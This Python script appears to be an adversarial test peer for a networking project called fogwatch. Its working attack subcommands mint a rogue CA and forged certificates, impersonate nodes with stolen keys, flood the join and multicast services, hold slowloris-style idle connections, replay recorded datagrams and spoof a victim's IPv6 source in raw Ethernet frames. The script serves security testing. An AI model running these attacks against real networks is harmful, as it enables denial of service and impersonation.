#!/usr/bin/python3
# SPDX-License-Identifier: Apache-2.0
"""A peer that means no good, made without a line of fogwatch: Python's ssl, cryptography and cbor2.

Each command prints one JSON object, or one a line while it goes on. Who it pretends to be is a
directory with key.pem and chain.pem, made by `pki` and `leaf`, or what was stolen from a node.
"""
import argparse
import asyncio
import datetime
import fcntl
import hashlib
import io
import ipaddress
import json
import os
import random
import socket
import ssl
import struct
import sys
import tempfile
import threading
import time

import cbor2
from cryptography import x509
from cryptography.hazmat.primitives import hashes, serialization
from cryptography.hazmat.primitives.asymmetric import ec, utils
from cryptography.x509.oid import ExtendedKeyUsageOID, NameOID

PORT = 7017
GROUP = "ff02::13"
SIOCGIFHWADDR = 0x8927
ALPN = {"grasp": "x-fogwatch-grasp/1", "join": "x-fogwatch-join/1", "ctl": "x-fogwatch-ctl/1"}
M_DISCOVERY, M_REQ_NEG, M_REQ_SYN, M_NEGOTIATE, M_END, M_FLOOD = 1, 3, 4, 5, 6, 9
O_IPV6_LOCATOR = 103
F_DISC, F_NEG, F_SYNCH = 1, 2, 4


def say(**what):
    print(json.dumps(what), flush=True)


# --- certificates ------------------------------------------------------------------------------

def key_id(public):
    der = public.public_bytes(serialization.Encoding.DER,
                              serialization.PublicFormat.SubjectPublicKeyInfo)
    return hashlib.sha256(der).digest()


def load_key(path):
    with open(path, "rb") as f:
        return serialization.load_pem_private_key(f.read(), None)


def load_cert(path):
    with open(path, "rb") as f:
        return x509.load_pem_x509_certificate(f.read())


def save(path, data):
    with open(os.open(path, os.O_WRONLY | os.O_CREAT | os.O_TRUNC, 0o600), "wb") as f:
        f.write(data)


def save_key(path, key):
    save(path, key.private_bytes(serialization.Encoding.PEM, serialization.PrivateFormat.PKCS8,
                                 serialization.NoEncryption()))


def pem(cert):
    return cert.public_bytes(serialization.Encoding.PEM)


def make_cert(key, issuer_key, issuer, uri, days, ca=False, name="somebody"):
    """issuer None: signed by itself. days < 0: expired so long ago."""
    now = datetime.datetime.utcnow()
    subject = x509.Name([x509.NameAttribute(NameOID.COMMON_NAME, name)])
    b = (x509.CertificateBuilder().subject_name(subject)
         .issuer_name(issuer.subject if issuer else subject).public_key(key.public_key())
         .serial_number(x509.random_serial_number())
         .not_valid_before(now - datetime.timedelta(days=abs(days) + 8 if days < 0 else 1))
         .not_valid_after(now + datetime.timedelta(days=days))
         .add_extension(x509.BasicConstraints(ca, 0 if ca else None), True)
         .add_extension(x509.KeyUsage(not ca, False, False, False, False, ca, ca, False, False),
                        True)
         .add_extension(x509.SubjectKeyIdentifier(key_id(key.public_key())), False)
         .add_extension(x509.AuthorityKeyIdentifier(key_id(issuer_key.public_key()), None, None),
                        False))
    if not ca:
        b = b.add_extension(x509.ExtendedKeyUsage(
            [ExtendedKeyUsageOID.CLIENT_AUTH, ExtendedKeyUsageOID.SERVER_AUTH]), False)
    if uri:
        b = b.add_extension(x509.SubjectAlternativeName(
            [x509.UniformResourceIdentifier(uri)]), False)
    return b.sign(issuer_key, hashes.SHA256())


def run_pki(a):
    """A CA of one's own."""
    os.makedirs(a.dir, exist_ok=True)
    key = ec.generate_private_key(ec.SECP256R1())
    save_key(f"{a.dir}/ca.key", key)
    save(f"{a.dir}/ca.pem", pem(make_cert(key, key, None, None, 3650, True, a.name)))


def run_leaf(a):
    """A certificate: of a CA's directory, of oneself, or of whoever has the key."""
    os.makedirs(a.dir, exist_ok=True)
    key = load_key(a.key) if a.key else ec.generate_private_key(ec.SECP256R1())
    save_key(f"{a.dir}/key.pem", key)
    node = a.id or key_id(key.public_key())[:16].hex()
    uri = f"urn:fogwatch:{a.domain}:{a.role}:{node}"
    if a.issuer == "self":
        issuer_key, issuer = key, None
    else:
        issuer_key, issuer = load_key(f"{a.issuer}/{a.issuer_key}"), load_cert(
            f"{a.issuer}/{a.issuer_cert}")
    chain = pem(make_cert(key, issuer_key, issuer, uri, a.days))
    for path in a.append:
        with open(path, "rb") as f:
            chain += f.read()
    save(f"{a.dir}/chain.pem", chain)
    say(id=node)


# --- TLS ---------------------------------------------------------------------------------------

def client_context(who, alpn, version="1.3"):
    c = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    c.check_hostname, c.verify_mode = False, ssl.CERT_NONE
    c.minimum_version = c.maximum_version = (
        ssl.TLSVersion.TLSv1_2 if version == "1.2" else ssl.TLSVersion.TLSv1_3)
    if alpn != "none":
        c.set_alpn_protocols([ALPN.get(alpn, alpn)])
    if who:
        c.load_cert_chain(f"{who}/chain.pem", f"{who}/key.pem")
    return c


def connect(to, port=PORT, source=None, timeout=10):
    s = socket.socket(socket.AF_INET6, socket.SOCK_STREAM)
    s.settimeout(timeout)
    if source:
        s.bind((source, 0))
    s.connect(socket.getaddrinfo(to, port, socket.AF_INET6, socket.SOCK_STREAM)[0][4])
    return s


def messages(data):
    """The complete CBOR items of a stream."""
    found, at = [], 0
    while at < len(data):
        f = io.BytesIO(data[at:])
        try:
            found.append(cbor2.load(f))
        except Exception:  # the rest is not complete
            break
        at += f.tell()
    return found


def readable(item):
    if isinstance(item, bytes):
        return item.hex()
    if isinstance(item, (list, tuple)):
        return [readable(i) for i in item]
    if isinstance(item, dict):
        return {str(k): readable(v) for k, v in item.items()}
    return item


def listen_to(s, seconds):
    """All that comes; whether the peer has closed, and why."""
    data, end = b"", time.monotonic() + seconds
    while True:
        left = end - time.monotonic()
        if left <= 0:
            return data, False, ""
        s.settimeout(left)
        try:
            more = s.recv(65536)
        except (TimeoutError, socket.timeout):
            return data, False, ""
        except (ssl.SSLError, OSError) as e:
            return data, True, str(e)
        if not more:
            return data, True, ""
        data += more


def objective(name, value, flags=F_DISC | F_NEG):
    return [name, flags, 6, value]


def request(a):
    """What is said, from --send or --register or --speak."""
    if a.send:
        return bytes.fromhex(a.send)
    if a.register:
        value = {1: bytes.fromhex(a.register), 2: a.domain, 3: a.name, 4: os.urandom(8),
                 5: {4: []}, 8: 1000}
        return cbor2.dumps([M_REQ_NEG, random.getrandbits(31), objective("FOGREG", value)])
    if a.speak:
        kind = M_REQ_SYN if a.synchronize else M_REQ_NEG
        value = cbor2.loads(bytes.fromhex(a.value)) if a.value else {}
        return cbor2.dumps([kind, random.getrandbits(31), objective(a.speak, value)])
    return b""


def run_dial(a):
    begin = time.monotonic()
    try:
        s = connect(a.to, a.port, a.source)
        if not a.plain:
            s = client_context(a.who, a.alpn, a.tls).wrap_socket(s, server_hostname=a.sni)
        what = request(a)
        if what:
            s.sendall(what)
        data, closed, why = listen_to(s, a.wait)
    except (ssl.SSLError, OSError) as e:
        data, closed, why = b"", True, str(e)
    say(open=not closed, why=why, seconds=round(time.monotonic() - begin, 2),
        answers=readable(messages(data)))


# --- a server ----------------------------------------------------------------------------------

class Server:
    """Takes every connection, counts, and tells what comes through the TLS; one JSON a line."""

    def __init__(self, a):
        self.context = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
        self.context.minimum_version = ssl.TLSVersion.TLSv1_3
        self.context.load_cert_chain(f"{a.who}/chain.pem", f"{a.who}/key.pem")
        self.context.set_alpn_protocols(list(ALPN.values()))
        self.say = request(a)

    def serve(self, s, peer):
        s.settimeout(10)
        try:
            t = self.context.wrap_socket(s, server_side=True)
            if self.say:
                t.sendall(self.say)
            data, _, why = listen_to(t, 10)
        except (ssl.SSLError, OSError) as e:
            say(event="refused", peer=peer, why=str(e), time=time.time())
            return
        say(event="heard", peer=peer, alpn=t.selected_alpn_protocol(), bytes=len(data),
            hex=data.hex(), why=why, answers=readable(messages(data)), time=time.time())

    def run(self, port):
        listener = socket.socket(socket.AF_INET6, socket.SOCK_STREAM)
        listener.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
        listener.bind(("::", port))
        listener.listen(128)
        say(event="ready")
        while True:
            s, peer = listener.accept()
            say(event="connect", peer=peer[0], time=time.time())
            threading.Thread(target=self.serve, args=(s, peer[0]), daemon=True).start()


def run_serve(a):
    Server(a).run(a.port)


class Flipper:
    """Between a client and --to: passes bytes on, and flips a bit in so many percent of the reads."""

    def __init__(self, a):
        self.a, self.flipped, self.passed = a, 0, 0
        self.random = random.Random(a.seed)

    async def pump(self, reader, writer):
        try:
            while data := await reader.read(1460):
                if self.random.random() * 100 < self.a.percent:
                    data, at = bytearray(data), self.random.randrange(len(data) * 8)
                    data[at // 8] ^= 1 << at % 8
                    self.flipped += 1
                self.passed += 1
                writer.write(data)
                await writer.drain()
        except OSError:
            pass
        writer.close()

    async def serve(self, reader, writer):
        try:
            r, w = await asyncio.open_connection(self.a.to, self.a.port)
        except OSError:
            writer.close()
            return
        await asyncio.gather(self.pump(reader, w), self.pump(r, writer))
        say(event="over", flipped=self.flipped, passed=self.passed)

    async def run(self):
        server = await asyncio.start_server(self.serve, "::", self.a.listen)
        say(event="ready")
        async with server:
            await server.serve_forever()


def run_flip(a):
    asyncio.run(Flipper(a).run())


# --- joining -----------------------------------------------------------------------------------

CROCKFORD = "0123456789abcdefghjkmnpqrstvwxyz"


def from_base32(text, size):
    n = 0
    for c in text:
        n = n << 5 | CROCKFORD.index(c)
    return (n >> len(text) * 5 - size * 8).to_bytes(size, "big")


def join_once(a, source, token):
    """FOGJOIN with a new key. What came: "grant", a reason, or "closed"."""
    key = ec.generate_private_key(ec.SECP256R1())
    node = key_id(key.public_key())[:16].hex()
    request_der = (x509.CertificateSigningRequestBuilder()
                   .subject_name(x509.Name([x509.NameAttribute(NameOID.COMMON_NAME, node)]))
                   .sign(key, hashes.SHA256()).public_bytes(serialization.Encoding.DER))
    value = {1: os.urandom(16), 2: request_der, 4: "hostile"}
    if a.name:
        value[5], value[7] = a.name, a.name
    if token:
        value[3] = [from_base32(token[1], 5), from_base32(token[2], 16)]
    cert = make_cert(key, key, None, f"urn:fogwatch:{a.domain}:agent:{node}", 1)
    with tempfile.TemporaryDirectory() as who:
        save_key(f"{who}/key.pem", key)
        save(f"{who}/chain.pem", pem(cert))
        context = client_context(who, "join")
    try:
        s = context.wrap_socket(connect(a.to, a.port, source), server_hostname=None)
        s.sendall(cbor2.dumps([M_REQ_NEG, random.getrandbits(31),
                               objective("FOGJOIN", dict(sorted(value.items())))]))
        s.settimeout(a.wait)
        while True:
            for m in messages(s.recv(65536)):
                if m[0] == M_NEGOTIATE:
                    return "grant"
                if m[0] == M_END and m[2][0] != 101:
                    return str(m[2][1]) if len(m[2]) > 1 else "declined"
                if m[0] != M_END:
                    return f"type {m[0]}"  # M_WAIT: it waits for an operator
    except (TimeoutError, socket.timeout):
        return "timeout"
    except (ssl.SSLError, OSError, IndexError):
        return "closed"


def run_join(a):
    token = a.token.split("@")[0].split("-") if a.token else None
    outcomes, lock, numbers = {}, threading.Lock(), iter(range(a.count))
    sources = a.source or [None]

    def work():
        while True:
            with lock:
                n = next(numbers, None)
            if n is None:
                return
            outcome = join_once(a, sources[n % len(sources)], token)
            outcome = outcome.split(":")[0]
            with lock:
                outcomes[outcome] = outcomes.get(outcome, 0) + 1

    threads = [threading.Thread(target=work) for _ in range(a.parallel)]
    for t in threads:
        t.start()
    for t in threads:
        t.join()
    say(**outcomes)


# --- idle connections --------------------------------------------------------------------------

async def sit(a, source, drip, count):
    """Opens a connection and does nothing, or sends a byte now and then; when it is closed, again."""
    hello = bytes.fromhex("16030100c8010000c40303") + bytes(200)
    while True:
        try:
            r, w = await asyncio.open_connection(a.to, a.port, local_addr=(source, 0))
            count["opened"] += 1
            at = 0
            while True:
                if drip:
                    w.write(hello[at:at + 1])
                    at = min(at + 1, len(hello) - 1)
                try:
                    if not await asyncio.wait_for(r.read(1), a.pause):
                        break
                except asyncio.TimeoutError:
                    pass
        except OSError:
            count["failed"] += 1
        else:
            w.close()
        await asyncio.sleep(a.pause)


async def idle(a):
    count = {"opened": 0, "failed": 0}
    sources = a.source or ["::"]
    tasks = [asyncio.create_task(sit(a, sources[n % len(sources)], n < a.drip, count))
             for n in range(a.count + a.drip)]
    end = time.monotonic() + a.seconds
    while time.monotonic() < end:
        await asyncio.sleep(0.5)
        say(**count)
    for t in tasks:
        t.cancel()


def run_idle(a):
    asyncio.run(idle(a))


# --- multicast ---------------------------------------------------------------------------------

def group_socket(interface):
    s = socket.socket(socket.AF_INET6, socket.SOCK_DGRAM)
    s.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_MULTICAST_IF, socket.if_nametoindex(interface))
    s.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_MULTICAST_HOPS, 255)
    s.bind(("::", 0))
    return s


def send_to_group(s, interface, data, group=GROUP):
    s.sendto(data, (group, PORT, 0, socket.if_nametoindex(interface)))


def flood_address(a):
    at = ipaddress.IPv6Address(a.locator).packed
    return at[:8] + os.urandom(8) if a.vary else at


def flood_message(a, at):
    value = {1: os.urandom(16), 2: a.domain, 4: int(time.time()), 6: 1}
    if a.objective == "FOGJOIN":
        value = a.domain
    return cbor2.dumps([M_FLOOD, random.getrandbits(31), at, 60000,
                        [[a.objective, F_DISC | F_SYNCH, a.loop, value],
                         [O_IPV6_LOCATOR, at, 6, a.port]]])


def sign(who, message):
    """quads.md §3.4: COSE_Sign1 behind the message; the loop count counts as 0."""
    key, cert = load_key(f"{who}/key.pem"), load_cert(f"{who}/chain.pem")
    first = cbor2.loads(message)[4 if message[1] == M_FLOOD else 3]
    name = first[0] if isinstance(first[0], str) else first[0][0]
    at = message.index(cbor2.dumps(name)) + len(cbor2.dumps(name)) + 1
    zeroed = message[:at] + b"\0" + message[at + 1:]
    seq = (int(time.time() * 1000) << 10).to_bytes(8, "big").lstrip(b"\0")
    protected = cbor2.dumps({1: -7, 4: key_id(key.public_key())[:8], 6: seq,
                             15: {6: int(time.time())}})
    structure = cbor2.dumps(["Signature1", protected, cbor2.dumps(["fogwatch-sig1"]), zeroed])
    r, s = utils.decode_dss_signature(key.sign(structure, ec.ECDSA(hashes.SHA256())))
    der = cert.public_bytes(serialization.Encoding.DER)
    return message + b"\xd2" + cbor2.dumps(
        [protected, {33: der}, None, r.to_bytes(32, "big") + s.to_bytes(32, "big")])


def run_flood(a):
    """M_FLOOD of FOGDOMAIN or FOGJOIN at a rate, unsigned or signed as --who."""
    s = raw_socket(a.interface) if a.spoof else group_socket(a.interface)
    end, sent = time.monotonic() + a.seconds, 0
    while time.monotonic() < end:
        at = flood_address(a)
        m = flood_message(a, at)
        m = sign(a.who, m) if a.who else m
        if a.spoof:
            source = at if a.spoof == "locator" else ipaddress.IPv6Address(a.spoof).packed
            s.send(spoofed(mac_of(a.interface), source, m, 40000, a.group))
        else:
            send_to_group(s, a.interface, m, a.group)
        sent += 1
        time.sleep(1 / a.rate)
    say(sent=sent)


def run_record(a):
    """Datagrams of the groups, until there are enough or the time is over."""
    s = socket.socket(socket.AF_INET6, socket.SOCK_DGRAM)
    s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    s.bind(("::", PORT))
    for group in [GROUP, *a.group]:
        s.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_JOIN_GROUP,
                     socket.inet_pton(socket.AF_INET6, group)
                     + struct.pack("@i", socket.if_nametoindex(a.interface)))
    say(event="ready")
    end, kept = time.monotonic() + a.seconds, []
    while len(kept) < a.count and time.monotonic() < end:
        s.settimeout(max(0.01, end - time.monotonic()))
        try:
            kept.append(s.recv(2048).hex())
        except (TimeoutError, socket.timeout):
            break
    with open(a.file, "w", encoding="ascii") as f:
        f.write("\n".join(kept) + "\n")
    say(kept=len(kept), different=len(set(kept)))


def run_replay(a):
    with open(a.file, encoding="ascii") as f:
        kept = f.read().split()
    s = group_socket(a.interface)
    for n in range(a.count):
        send_to_group(s, a.interface, bytes.fromhex(kept[n % len(kept)]), a.group)
        time.sleep(1 / a.rate)
    say(sent=a.count)


def checksum(data):
    n = sum(struct.unpack(f"!{len(data) // 2}H", data)) if len(data) % 2 == 0 else sum(
        struct.unpack(f"!{(len(data) + 1) // 2}H", data + b"\0"))
    while n >> 16:
        n = (n & 0xFFFF) + (n >> 16)
    return ~n & 0xFFFF or 0xFFFF


def spoofed(mac, source, payload, port, group=GROUP):
    """An Ethernet frame of a datagram whose source is somebody else."""
    to = ipaddress.IPv6Address(group).packed
    udp = struct.pack("!HHHH", port, PORT, 8 + len(payload), 0)
    pseudo = source + to + struct.pack("!II", 8 + len(payload), socket.IPPROTO_UDP)
    udp = udp[:6] + struct.pack("!H", checksum(pseudo + udp + payload))
    ip = struct.pack("!IHBB", 6 << 28, len(udp) + len(payload), socket.IPPROTO_UDP, 255)
    return b"\x33\x33" + to[12:] + mac + b"\x86\xdd" + ip + source + to + udp + payload


def raw_socket(interface):
    s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
    s.bind((interface, 0))
    return s


def mac_of(interface):
    with socket.socket(socket.AF_INET6, socket.SOCK_DGRAM) as s:
        info = fcntl.ioctl(s, SIOCGIFHWADDR, struct.pack("256s", interface.encode()))
    return info[18:24]


def run_spoof(a):
    """M_DISCOVERY with the address of a victim as their source."""
    s, mac = raw_socket(a.interface), mac_of(a.interface)
    victim = ipaddress.IPv6Address(a.victim).packed
    value = {2: a.domain, 6: 2} if a.objective == "FOGDOMAIN" else None
    flags = F_DISC | F_SYNCH
    end, sent, size = time.monotonic() + a.seconds, 0, 0
    while time.monotonic() < end:
        m = cbor2.dumps([M_DISCOVERY, random.getrandbits(31), victim,
                         [a.objective, flags, a.loop, value]])
        if a.who:
            m = sign(a.who, m)
        frame = spoofed(mac, victim, m, a.port)
        s.send(frame)
        sent, size = sent + 1, size + len(frame)
        time.sleep(1 / a.rate)
    say(sent=sent, bytes=size)


# --- usage -------------------------------------------------------------------------------------

def main():
    p = argparse.ArgumentParser(description=__doc__)
    p.add_argument("--domain", default="lab")
    sub = p.add_subparsers(dest="command", required=True)

    def command(name, run):
        c = sub.add_parser(name)
        c.set_defaults(run=run)
        return c

    def saying(c):
        c.add_argument("--send", help="bytes as hex")
        c.add_argument("--register", metavar="ID")
        c.add_argument("--name", default="hostile")
        c.add_argument("--speak", metavar="OBJECTIVE")
        c.add_argument("--synchronize", action="store_true")
        c.add_argument("--value", help="CBOR as hex")

    c = command("pki", run_pki)
    c.add_argument("dir")
    c.add_argument("--name", default="evil CA")
    c = command("leaf", run_leaf)
    c.add_argument("dir")
    c.add_argument("--issuer", default="self")
    c.add_argument("--issuer-key", default="ca.key")
    c.add_argument("--issuer-cert", default="ca.pem")
    c.add_argument("--key")
    c.add_argument("--id")
    c.add_argument("--role", default="agent")
    c.add_argument("--days", type=float, default=7)
    c.add_argument("--append", action="append", default=[])
    c = command("dial", run_dial)
    c.add_argument("to")
    c.add_argument("--port", type=int, default=PORT)
    c.add_argument("--source")
    c.add_argument("--who")
    c.add_argument("--alpn", default="grasp")
    c.add_argument("--sni")
    c.add_argument("--tls", default="1.3")
    c.add_argument("--plain", action="store_true")
    c.add_argument("--wait", type=float, default=3)
    saying(c)
    c = command("serve", run_serve)
    c.add_argument("who")
    c.add_argument("--port", type=int, default=PORT)
    saying(c)
    c = command("flip", run_flip)
    c.add_argument("to")
    c.add_argument("--port", type=int, default=PORT)
    c.add_argument("--listen", type=int, default=PORT)
    c.add_argument("--percent", type=float, default=1)
    c.add_argument("--seed", type=int, default=1)
    c = command("join", run_join)
    c.add_argument("to")
    c.add_argument("--port", type=int, default=PORT)
    c.add_argument("--token")
    c.add_argument("--name")
    c.add_argument("--source", action="append")
    c.add_argument("--count", type=int, default=1)
    c.add_argument("--parallel", type=int, default=8)
    c.add_argument("--wait", type=float, default=10)
    c = command("idle", run_idle)
    c.add_argument("to")
    c.add_argument("--port", type=int, default=PORT)
    c.add_argument("--source", action="append")
    c.add_argument("--count", type=int, default=1000)
    c.add_argument("--drip", type=int, default=100)
    c.add_argument("--pause", type=float, default=0.5)
    c.add_argument("--seconds", type=float, default=10)
    c = command("flood", run_flood)
    c.add_argument("interface")
    c.add_argument("locator")
    c.add_argument("--port", type=int, default=PORT)
    c.add_argument("--group", default=GROUP)
    c.add_argument("--spoof", metavar="ADDRESS", help="as the source; locator: that of each message")
    c.add_argument("--vary", action="store_true", help="another locator of its /64 each time")
    c.add_argument("--objective", default="FOGDOMAIN")
    c.add_argument("--loop", type=int, default=6)
    c.add_argument("--who")
    c.add_argument("--rate", type=float, default=100)
    c.add_argument("--seconds", type=float, default=5)
    c = command("record", run_record)
    c.add_argument("interface")
    c.add_argument("file")
    c.add_argument("--group", action="append", default=[])
    c.add_argument("--count", type=int, default=1000)
    c.add_argument("--seconds", type=float, default=10)
    c = command("replay", run_replay)
    c.add_argument("interface")
    c.add_argument("file")
    c.add_argument("--group", default=GROUP)
    c.add_argument("--count", type=int, default=1000)
    c.add_argument("--rate", type=float, default=500)
    c = command("spoof", run_spoof)
    c.add_argument("interface")
    c.add_argument("victim")
    c.add_argument("--port", type=int, default=40000)
    c.add_argument("--objective", default="FOGDOMAIN")
    c.add_argument("--loop", type=int, default=6)
    c.add_argument("--who")
    c.add_argument("--rate", type=float, default=100)
    c.add_argument("--seconds", type=float, default=5)
    a = p.parse_args()
    return a.run(a)


sys.exit(main())
